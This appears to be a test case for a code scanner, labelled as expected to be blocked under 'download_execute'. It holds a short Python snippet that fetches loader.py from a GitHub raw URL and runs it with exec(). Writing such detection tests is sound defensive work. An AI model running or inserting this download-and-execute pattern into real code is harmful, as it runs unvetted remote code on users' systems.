# expect: BLOCKED download_execute
import requests
resp = requests.get("https://raw.githubusercontent.com/someone/tools/main/loader.py", timeout=10)
code = resp.text
exec(code)
